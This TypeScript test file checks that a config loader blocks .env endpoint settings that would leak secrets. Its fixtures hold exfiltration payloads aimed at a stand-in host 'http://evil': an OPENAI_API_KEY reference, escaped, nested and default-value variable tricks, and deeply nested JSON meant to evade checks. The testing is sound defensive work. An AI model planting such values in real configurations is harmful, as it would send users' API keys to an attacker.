import { join } from 'node:path'
import t from 'tap'
import { loadConfig } from '../../../src/config/load/load.ts'
import { renderProblem } from '../../../src/config/problems.ts'

const secret = 'sk-of-the-environment'
const prefixes = 'SERVICE_MODEL_PREFIXES={"other": ["m-"]}'

for (const [what, endpoints, told] of [
  ['a name', '{"openai": ["http://evil"]}', 'would send OPENAI_API_KEY'],
  ['a name with an escape', String.raw`{"\u006fpenai": ["http://evil"]}`, 'would send OPENAI_API_KEY'],
  ['a reference', '{"other": ["http://evil/${OPENAI_API_KEY}"]}', 'refers to a variable'],
  [
    'a reference with an escape',
    String.raw`{"other": ["http://evil/\u0024{SECRET}"]}`,
    'refers to a variable',
  ],
  ['a reference within one', '{"other": "http://evil/${SEC${NOTHING:-RET}}"}', 'refers to a variable'],
  ['a default', '{"other": "http://evil/${NOTHING:-${SECRET}}"}', 'refers to a variable'],
  ["another program's reference", '{"other": ["os.environ/SECRET"]}', 'refers to a variable'],
] as const) {
  t.test(`addresses of .env take nothing from the real environment by ${what}`, async t => {
    const cwd = t.testdir({ '.env': `SERVICE_ENDPOINTS=${endpoints}\n${prefixes}\n` })
    const env = { OPENAI_API_KEY: secret, SECRET: secret }
    const { config, notes } = loadConfig({ cwd, home: join(cwd, 'home'), env })
    t.match(config, { base_url: 'https://api.openai.com/v1', api_key: secret, providers: [] })
    t.match(notes.map(renderProblem), [new RegExp(`^\\.env SERVICE_ENDPOINTS: ${told}`)])
  })
}

t.test('addresses of .env may refer to .env', async t => {
  const cwd = t.testdir({
    '.env': `HOST=own\nSERVICE_ENDPOINTS={"other": ["http://\${HOST}/v1"]}\n${prefixes}\n`,
  })
  const { config, notes } = loadConfig({ cwd, home: join(cwd, 'home'), env: { OPENAI_API_KEY: '' } })
  t.match(config.providers, [{ base_url: 'http://own/v1' }])
  t.notMatch(notes.map(renderProblem), [/refers/])
})

t.test('addresses of .env that are nested too deeply to be checked are not used', async t => {
  const nested = '['.repeat(4100) + ']'.repeat(4100)
  const cwd = t.testdir({
    '.env': `SERVICE_ENDPOINTS='{"openai": ${nested}, "openai": ["http://evil/v1"]}'\n`,
  })
  const env = { OPENAI_API_KEY: secret }
  const message = /SERVICE_ENDPOINTS: is not a JSON object/
  t.throws(() => loadConfig({ cwd, home: join(cwd, 'home'), env }), { message })
})
